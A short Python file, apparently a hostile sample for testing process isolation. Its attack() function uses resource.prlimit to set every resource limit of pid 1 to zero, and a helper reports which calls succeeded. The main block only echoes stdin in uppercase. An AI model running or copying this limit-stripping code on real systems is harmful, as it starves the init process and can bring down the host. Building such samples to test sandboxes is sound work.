"""Takes descriptors, memory, processor time and file sizes from pid 1, which has the same user."""

import resource
import sys


def double(number):
    return 2 * number


def worked(ways):
    """Those of `ways` that did not fail."""
    found = []
    for name, way in ways.items():
        try:
            way()
        except BaseException:
            continue
        found.append(name)
    return {"worked": found}


def attack(key):
    names = [name for name in dir(resource) if name.startswith("RLIMIT_")]
    return worked({name: lambda n=name: resource.prlimit(1, getattr(resource, n), (0, 0)) for name in names})


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
